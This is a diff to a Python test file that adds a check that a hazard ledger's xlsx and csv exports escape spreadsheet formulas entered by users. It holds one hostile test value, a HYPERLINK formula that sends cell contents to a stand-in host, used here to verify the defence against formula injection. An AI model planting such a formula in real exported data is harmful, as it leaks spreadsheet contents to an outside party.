@@ -3,11 +3,14 @@
 Each test names the defect of the hostile-input issue it guards against.
 """
 
+import csv
+import io
 import json
 
 import anyio
 import httpx
 import pytest
+from openpyxl import load_workbook
 from sqlalchemy import Engine
 from starlette.types import Message, Receive, Scope, Send
 
@@ -18,7 +21,7 @@ from agencyflow.store import hazards as hazard_store
 from tests.api.test_agencies import People, _apply
 from tests.api.test_hazards import _found, _visit, _with_photos
 from tests.api.test_projects import _in_service, admitted
-from tests.factories import bearer, facts, fresh_agency, id_number, professional
+from tests.factories import bearer, facts, fresh_agency, id_number, professional, uscc
 
 
 @pytest.fixture
@@ -283,3 +286,28 @@ async def _guarded(guard: RequestGuard, receive: Receive) -> int:
     }
     await guard(scope, receive, send)
     return statuses[0]
+
+
+# ---------------------------------------------------------------- 7. formulas in exports
+
+FORMULA = '=HYPERLINK("http://x/?"&A2,"点此查看")'
+
+
+async def test_a_formula_in_a_hazard_is_text_in_both_exports(
+    api: httpx.AsyncClient, engine: Engine
+) -> None:
+    office = await admitted(api, engine)
+    await _found(api, office, {"location": FORMULA, "description": "＝1+1"})
+    ledger = f"/enterprises/{uscc(office.enterprise)}/ledger"
+
+    xlsx = await api.get(f"{ledger}?format=xlsx", headers=bearer(office.owner))
+    book = load_workbook(io.BytesIO(xlsx.content))
+    cells = [cell for row in book["隐患台账"].iter_rows() for cell in row]
+    assert not [cell.value for cell in cells if cell.data_type == "f"]
+    texts = {cell.value for cell in cells}
+    assert "'" + FORMULA in texts and "'＝1+1" in texts
+
+    csv_text = (await api.get(f"{ledger}?format=csv", headers=bearer(office.owner))).text
+    fields = [field for row in csv.reader(io.StringIO(csv_text)) for field in row]
+    assert "'" + FORMULA in fields
+    assert FORMULA not in fields
